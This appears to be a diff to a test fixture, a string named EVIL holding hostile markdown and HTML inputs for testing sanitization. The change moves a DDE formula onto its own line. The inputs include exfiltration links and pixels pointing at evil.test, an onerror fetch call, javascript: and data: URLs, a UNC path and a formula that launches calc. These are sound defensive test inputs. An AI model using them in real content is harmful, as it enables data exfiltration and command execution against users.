@@ -39,7 +39,8 @@ EVIL = """See [here](https://evil.test/?q=secret), <https://evil.test/auto>, htt
 ![pixel](https://evil.test/p.png) ![ref][i] [text][r] [short] [1] <a href="https://evil.test/h">h</a>
 <img src=x onerror=fetch('//evil.test')> <!DOCTYPE x> <b>bold</b> [j](javascript:alert(1)) [d](data:text/html,x)
 [api](/api/documents/1) [own](/knowledge/document/?id=1) [src](https://wiki.acme.test/seal) [user](https://a@wiki.acme.test/seal)
-[back](\\\\evil.test\\x) [nl](https://evil.test/%0a) { HYPERLINK "https://evil.test/field" } =cmd|'/c calc'!A1 <w:fldSimple/>
+[back](\\\\evil.test\\x) [nl](https://evil.test/%0a) { HYPERLINK "https://evil.test/field" }
+=cmd|'/c calc'!A1 <w:fldSimple/>
 
 | [t](https://evil.test/t) | ![c](https://evil.test/c.png) |
 |---|---|
